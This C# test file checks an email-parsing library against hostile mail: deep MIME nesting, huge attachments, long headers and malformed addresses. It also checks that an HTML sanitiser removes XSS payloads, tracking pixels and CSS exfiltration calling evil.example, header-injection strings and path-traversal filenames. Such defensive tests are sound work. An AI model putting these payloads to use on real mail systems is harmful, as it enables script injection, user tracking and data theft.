using System.Text;
using ChannelHub.Cases;
using ChannelHub.Channels.Email;
using ChannelHub.Channels.Email.Mime;
using ChannelHub.Channels.Email.Text;

namespace ChannelHub.Channels.Tests.Email;

/// <summary>Input made to hurt. Bounds are bytes allocated by the thread, which no busy machine changes.</summary>
internal sealed class HostileMailTests
{
    private const string Head = "From: a@customer.example\r\nTo: help@desk.example\r\nSubject: x\r\n";

    private static InboundMessage Map(byte[] mail)
    {
        var raw = new RawInbound { Account = new AccountName("mail"), Channel = "email", ExternalId = "1", ReceivedAt = DateTimeOffset.UnixEpoch.AddYears(55), Body = mail };
        return EmailInboundMapper.Map(raw, EmailMapping.None) is Normalised.Message(var message) ? message : throw new InvalidOperationException("no message");
    }

    private static byte[] Ascii(string text) => Encoding.Latin1.GetBytes(text);

    /// <summary>What the work allocates, after one run to warm up.</summary>
    private static long Allocated(Action work)
    {
        work();
        var before = GC.GetAllocatedBytesForCurrentThread();
        work();
        return GC.GetAllocatedBytesForCurrentThread() - before;
    }

    private static byte[] Nested(int depth)
    {
        var mail = new StringBuilder(Head);
        for (var i = 0; i < depth; i++) mail.Append($"Content-Type: multipart/mixed; boundary=b{i}\r\n\r\n--b{i}\r\n");
        return Ascii(mail.ToString());
    }

    [Test]
    public void Read_NestedTenThousandDeep_StopsAtTheLimit()
    {
        var mail = Nested(10_000);
        Assert.That(MimeReader.Read(mail).Parts, Has.Length.EqualTo(MimeLimits.Default.MaxDepth + 1));
        Assert.That(Allocated(() => MimeReader.Read(mail)), Is.LessThan(16_000));
    }

    [Test]
    public void Map_NestedTenThousandDeep_AttachesTheRawMail()
    {
        var mail = Nested(10_000);
        var message = Map(mail);
        Assert.That(message.Attachments.Single(a => a.Name == "mail.eml").Size, Is.EqualTo(mail.Length));
        Assert.That(message.Text, Does.Contain("mail.eml"));
    }

    [Test]
    public void Map_TenThousandParts_KeepsTheFirstAndTheRawMail()
    {
        var mail = new StringBuilder(Head).Append("Content-Type: multipart/mixed; boundary=p\r\n\r\n");
        for (var i = 0; i < 10_000; i++) mail.Append("--p\r\nContent-Type: application/octet-stream\r\n\r\nx\r\n");
        var message = Map(Ascii(mail.ToString()));
        Assert.That(message.Attachments, Has.Count.LessThanOrEqualTo(MimeLimits.Default.MaxParts));
        Assert.That(message.Attachments.Any(a => a.Name == "mail.eml"));
    }

    [Test]
    public void Read_LargeAttachment_IsNotCopied()
    {
        var body = Convert.ToBase64String(new byte[8 * 1024 * 1024], Base64FormattingOptions.InsertLineBreaks);
        var mail = Ascii(Head + "Content-Type: multipart/mixed; boundary=p\r\n\r\n--p\r\nContent-Type: text/plain\r\n\r\nhola\r\n--p\r\nContent-Type: application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n" + body + "\r\n--p--\r\n");
        Assert.That(Map(mail).Attachments[0].Size, Is.EqualTo(8 * 1024 * 1024));
        Assert.That(Allocated(() => Map(mail)), Is.LessThan(200_000));
    }

    [Test]
    public void Map_AttachmentOfTwoHundredMegabytes_AllocatesNothingOfItsSize()
    {
        var head = Ascii(Head + "Content-Type: multipart/mixed; boundary=p\r\n\r\n--p\r\n\r\nhola\r\n--p\r\nContent-Type: video/mp4; name=a.mp4\r\nContent-Transfer-Encoding: base64\r\n\r\n");
        var mail = new byte[head.Length + (200 << 20)];
        mail.AsSpan().Fill((byte)'A');
        head.CopyTo(mail, 0);
        var raw = new RawInbound { Account = new AccountName("mail"), Channel = "email", ExternalId = "1", ReceivedAt = DateTimeOffset.UnixEpoch.AddYears(55), Body = mail };
        var message = ((Normalised.Message)EmailInboundMapper.Map(raw, EmailMapping.None, file => new KeptFile(new string('0', 64), file.Name.Length))).Value;
        Assert.That(message.Text, Is.EqualTo("hola"));
        Assert.That(ContentReader.Read(MimeReader.Read(mail)).Files.Single().Size, Is.EqualTo((200L << 20) / 4 * 3));
        Assert.That(Allocated(() => EmailInboundMapper.Map(raw, EmailMapping.None, file => new KeptFile(new string('0', 64), file.Name.Length))), Is.LessThan(200_000));
    }

    [Test]
    public void Map_BoundaryThatNeverCloses_GivesAllThatIsThere()
    {
        var message = Map(Ascii(Head + "Content-Type: multipart/mixed; boundary=p\r\n\r\n--p\r\n\r\nhola\r\n--p\r\nContent-Type: application/pdf; name=a.pdf\r\n\r\n%PDF\r\n--not\r\n--p x\r\n"));
        Assert.That(message.Text, Is.EqualTo("hola"));
        Assert.That(message.Attachments.Single(), Has.Property("Name").EqualTo("a.pdf").And.Property("Size").EqualTo(20));
    }

    [Test]
    public void Map_LinesThatLookLikeDelimiters_AllocateInProportion()
    {
        var mail = Ascii(Head + "Content-Type: multipart/mixed; boundary=p\r\n\r\n--p\r\n\r\n" + string.Concat(Enumerable.Repeat("--pp\r\n", 100_000)));
        Assert.That(Allocated(() => MimeReader.Read(mail)), Is.LessThan(10_000));
        Assert.That(MimeReader.Read(mail).Parts, Has.Length.EqualTo(2));
    }

    [Test]
    public void Map_FileNamesOfFourThousandCharacters_AreShort()
    {
        var name = new string('n', 4000) + ".pdf";
        foreach (var field in new[] { $"filename=\"{name}\"", $"filename*=utf-8''{string.Concat(Enumerable.Repeat("%C3%B1", 4000))}.pdf", string.Join(";\r\n ", Enumerable.Range(0, 60).Select(i => $"filename*{i}={new string('n', 70)}")) })
        {
            var message = Map(Ascii(Head + $"Content-Type: application/pdf\r\nContent-Disposition: attachment; {field}\r\n\r\n%PDF\r\n"));
            Assert.That(message.Attachments.Single().Name, Has.Length.LessThanOrEqualTo(FileNames.MaxLength));
        }
    }

    [Test]
    public void Map_HeaderLineOfAMegabyte_IsCut()
    {
        var mail = Ascii("From: a@customer.example\r\nSubject: " + new string('x', 1 << 20) + "\r\nX-After: 1\r\n\r\nhola\r\n");
        var message = Map(mail);
        Assert.That(message.Subject, Has.Length.EqualTo(500));
        Assert.That(message.Attachments.Any(a => a.Name == "mail.eml"));
    }

    [Test]
    public void Map_ThousandsOfAddresses_KeepsABoundedNumber()
    {
        var to = string.Join(", ", Enumerable.Range(0, 20_000).Select(i => $"u{i}@x.example"));
        Assert.That(Map(Ascii("From: a@customer.example\r\nTo: " + to[..60_000] + "\r\n\r\nhola\r\n")).Recipients, Has.Count.LessThanOrEqualTo(MimeLimits.MaxAddresses));
    }

    [TestCase("((((((((((")]
    [TestCase("a:b:c:d:e:f;")]
    [TestCase("<<<<<<a@b.example>>>>>")]
    [TestCase("\"unclosed <a@b.example>")]
    [TestCase("=?utf-8?B?PGV2aWxAeC5leGFtcGxlPiwg?= <a@b.example>")]
    public void Read_StrangeAddresses_EndsAndGivesNoControlCharacters(string value)
    {
        var deep = Ascii(string.Concat(Enumerable.Repeat(value, 2000)));
        foreach (var address in MailAddresses.Read(deep)) Assert.That(address.Address.Any(char.IsControl), Is.False);
    }

    [Test]
    public void Read_LineEndInAnEncodedWord_StaysOneLine() =>
        Assert.That(EncodedWords.Decode("=?utf-8?Q?a=0D=0ABcc:_x=40y.example?="u8), Is.EqualTo("a Bcc: x@y.example"));

    [Test]
    public void Read_LineEndInAQuotedAddress_IsNoAddress() =>
        Assert.That(MailAddresses.Normalise("\"a\r\nRCPT TO:<x>\"@b.example"), Is.Null);

    [Test]
    public void Map_NulBytesInTheText_AreDropped() => Assert.That(Map(Ascii(Head + "\r\nho\0la\0\r\n")).Text, Is.EqualTo("hola"));

    [Test]
    public void Map_Base64Garbage_GivesAFileOfWhatCanBeRead()
    {
        var message = Map(Ascii(Head + "Content-Type: application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!%%SGVs=bG8=***=====A\r\n"));
        Assert.That(message.Attachments[0].Size, Is.EqualTo(5));
    }

    [Test]
    public void Map_BareCarriageReturns_AreLineEnds() => Assert.That(Map(Ascii("From: a@customer.example\rSubject: uno\r\rhola\rdos")), Has.Property("Subject").EqualTo("uno").And.Property("Text").EqualTo("hola\ndos"));

    [Test]
    public void Safe_NameOfFourThousandCharacters_IsShortAndKeepsItsEnding()
    {
        var name = FileNames.Safe(new string('a', 4000) + ".pdf");
        Assert.That(name, Has.Length.EqualTo(FileNames.MaxLength));
        Assert.That(name, Does.EndWith(".pdf"));
    }

    [TestCase("../../etc/passwd", "passwd")]
    [TestCase("C:\\Users\\x\\a.doc", "a.doc")]
    [TestCase("..", null)]
    [TestCase("nul", "_nul")]
    [TestCase("a\u202Egnp.exe", "agnp.exe")]
    [TestCase("a<b>|c?.txt", "a_b__c_.txt")]
    [TestCase(".htaccess", "htaccess")]
    [TestCase("a\u0000b.txt", "ab.txt")]
    public void Safe_HostileName_IsHarmless(string raw, string? safe) => Assert.That(FileNames.Safe(raw), Is.EqualTo(safe));

    [Test]
    public void Parse_HtmlNestedADeepWay_IsReadAsCrudeText()
    {
        var html = string.Concat(Enumerable.Repeat("<div>", 100_000)) + "hola";
        Assert.That(HtmlBody.Parse(html).Text(), Does.EndWith("hola"));
        Assert.That(Allocated(() => HtmlBody.Parse(html)), Is.LessThan(8_000_000));
    }

    [Test]
    public void Parse_HtmlWithAHugeDataUrl_DropsIt()
    {
        var html = "<p>hola</p><img src=\"data:image/png;base64," + new string('A', 900_000) + "\" alt=\"foto\">";
        Assert.That(HtmlBody.Parse(html).Sanitised(new HashSet<string>()), Is.EqualTo("<p>hola</p>[foto]"));
    }

    [TestCase("<a href=\"javascript:alert(1)\">x</a>")]
    [TestCase("<a href=\" jAvA\tscript:alert(1)\">x</a>")]
    [TestCase("<a href=\"data:text/html,x\">x</a>")]
    [TestCase("<a href=\"vbscript:x\">x</a>")]
    [TestCase("<p style=\"background:url(//evil.example)\">x</p>")]
    [TestCase("<p style=\"b\\61 ckground:url(x)\">x</p>")]
    [TestCase("<p style=\"color:expression(alert(1))\">x</p>")]
    [TestCase("<p style=\"position:absolute;top:0\">x</p>")]
    [TestCase("<img src=x onerror=alert(1)>x")]
    [TestCase("<svg onload=alert(1)>x</svg>x")]
    [TestCase("<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>x")]
    [TestCase("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">x</noscript>x")]
    [TestCase("<form action=//evil.example><input><button>go</button>x</form>")]
    [TestCase("<base href=//evil.example>x")]
    [TestCase("<meta http-equiv=refresh content=0>x")]
    [TestCase("<link rel=stylesheet href=//evil.example>x")]
    [TestCase("<p id=x name=y class=z>x</p>")]
    public void Sanitised_HostileMarkup_LeavesOnlyHarmlessMarkup(string html)
    {
        var safe = HtmlBody.Parse(html).Sanitised(new HashSet<string>());
        Assert.That(safe, Does.Contain("x"));
        Assert.That(safe, Does.Not.Match("(?i)script:|url\\(|expression|position|evil|\\b(id|name|class)="));
        MailFuzzTests.AssertSafe(safe);
    }

    [TestCase("<img src=\"https://evil.example/p.gif?u=1\" width=1 height=1>x", Description = "tracking pixel")]
    [TestCase("<img src=\"cid:nobody\" srcset=\"https://evil.example/p.gif 2x\">x")]
    [TestCase("<picture><source srcset=\"https://evil.example/p.webp\"><img src=\"//evil.example/p.png\"></picture>x")]
    [TestCase("<table background=\"https://evil.example/p.gif\"><tr><td background=//evil.example/p.gif>x</td></tr></table>")]
    [TestCase("<body background=\"https://evil.example/p.gif\" bgproperties=fixed>x</body>")]
    [TestCase("<style>@import 'https://evil.example/a.css'; input[value^=a]{background:url(https://evil.example/a)}</style>x", Description = "CSS exfiltration")]
    [TestCase("<p style=\"background-image:url(https://evil.example/p)\">x</p>")]
    [TestCase("<p style=\"background-color:image-set('https://evil.example/p' 1x)\">x</p>")]
    [TestCase("<p style=\"border:1px solid;border-image:url(https://evil.example/p) 30\">x</p>")]
    [TestCase("<p style=\"color:red;list-style:url(https://evil.example/p)\">x</p>")]
    [TestCase("<p style=\"font-family:a;src:url(https://evil.example/f.woff)\">x</p>")]
    [TestCase("<p style=\"color:/**/url(https://evil.example/p)\">x</p>")]
    [TestCase("<p style=\"color:var(--x,url(https://evil.example/p))\">x</p>")]
    [TestCase("<a href=\"#\" ping=\"https://evil.example/ping\">x</a>")]
    [TestCase("<link rel=dns-prefetch href=//evil.example>x")]
    [TestCase("<video poster=//evil.example/p.png src=//evil.example/v></video>x")]
    [TestCase("<audio src=//evil.example/a autoplay></audio>x")]
    [TestCase("<iframe src=//evil.example></iframe>x")]
    [TestCase("<object data=//evil.example></object><embed src=//evil.example>x")]
    [TestCase("<input type=image src=//evil.example/p.png>x")]
    [TestCase("<svg><image href=//evil.example/p.png /><use href=//evil.example/u /></svg>x")]
    [TestCase("<v:fill type=tile src=https://evil.example/p.png /><v:image src=https://evil.example/p.png />x")]
    [TestCase("<font face=\"url(https://evil.example/f)\">x</font>")]
    [TestCase("<blockquote cite=\"https://evil.example/c\">x</blockquote>")]
    public void Sanitised_WaysToCallHome_AreGone(string html)
    {
        var safe = HtmlBody.Parse(html).Sanitised(new HashSet<string> { "here@x" });
        Assert.That(safe, Does.Contain("x").And.Not.Contains("evil"));
        MailFuzzTests.AssertSafe(safe);
    }

    [TestCase(20_000)]
    public void Split_ManyLines_AllocatesInProportion(int lines)
    {
        var text = string.Concat(Enumerable.Repeat("On Mon, 3 Mar 2025 at 10:00 somebody\n<", lines));
        Assert.That(Allocated(() => ReplySplitter.Split(text)), Is.LessThan(20_000_000));
    }

    [Test]
    public void Read_TnefThatLiesOnLengths_EndsWithWhatWasThere()
    {
        byte[] tnef = [0x78, 0x9F, 0x3E, 0x22, 1, 0, 1, 3, 0x90, 6, 0, 0xFF, 0xFF, 0xFF, 0x7F, 1, 2, 3];
        Assert.That(TnefReader.Read(tnef), Is.Not.Null);
        Assert.That(TnefReader.Read(new byte[] { 1, 2, 3 }), Is.Null);
    }
}
